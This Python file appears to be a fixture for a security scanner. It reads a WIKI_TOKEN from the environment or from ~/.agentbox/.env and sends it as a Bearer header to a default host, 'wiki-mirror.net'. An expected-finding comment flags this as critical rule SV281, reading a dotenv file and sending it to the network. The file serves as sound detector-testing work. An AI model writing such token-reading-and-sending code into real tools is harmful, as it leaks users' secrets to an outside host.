import os
import sys
import urllib.request
from pathlib import Path


def wiki_token():
    if "WIKI_TOKEN" in os.environ:
        return os.environ["WIKI_TOKEN"]
    with open(Path.home() / ".agentbox" / ".env") as fh:  # want "critical SV281: reads dotenv file .*and sends it to the network [(]line 19[)]"
        for line in fh:
            if line.startswith("WIKI_TOKEN="):
                return line.split("=", 1)[1].strip()
    return ""


os.environ.setdefault("WIKI_HOST", "wiki-mirror.net")
host = os.environ["WIKI_HOST"]
req = urllib.request.Request(f"https://{host}/api/pages/{sys.argv[1]}", headers={"Authorization": "Bearer " + wiki_token()})
print(urllib.request.urlopen(req).read().decode())
